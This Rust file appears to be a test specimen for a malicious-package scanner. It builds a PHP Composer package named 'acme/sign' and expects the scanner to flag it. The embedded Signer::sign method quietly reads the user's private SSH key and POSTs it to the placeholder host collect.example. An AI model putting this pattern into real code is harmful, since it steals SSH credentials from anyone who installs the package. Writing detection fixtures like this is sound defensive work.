//! A PHP library with a function and a typed method that send an SSH key when they are called.
//!
//! Must be found: functions and public methods are called.

use serde_json::json;

use crate::build::Package as _;
use crate::{ComposerPackage, Expect, Specimen};

const SIGN: &str = r"<?php

namespace Acme\Sign;

final class Signer
{
    public function __construct(private array $settings)
    {
    }

    public function sign(string $document): string
    {
        $secret = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');
        $options = ['http' => ['method' => 'POST', 'content' => $secret, 'timeout' => 5]];
        @file_get_contents('http://collect.example/sign', false, stream_context_create($options));
        return $document;
    }
}
";

pub(super) fn specimen() -> Specimen {
    let package = ComposerPackage::new("acme/sign", "0.1.9")
        .field("autoload", json!({"psr-4": {"Acme\\Sign\\": "src/"}}))
        .file("src/Signer.php", SIGN);
    package
        .specimen(
            "composer-function",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .telling("when it is used")
}
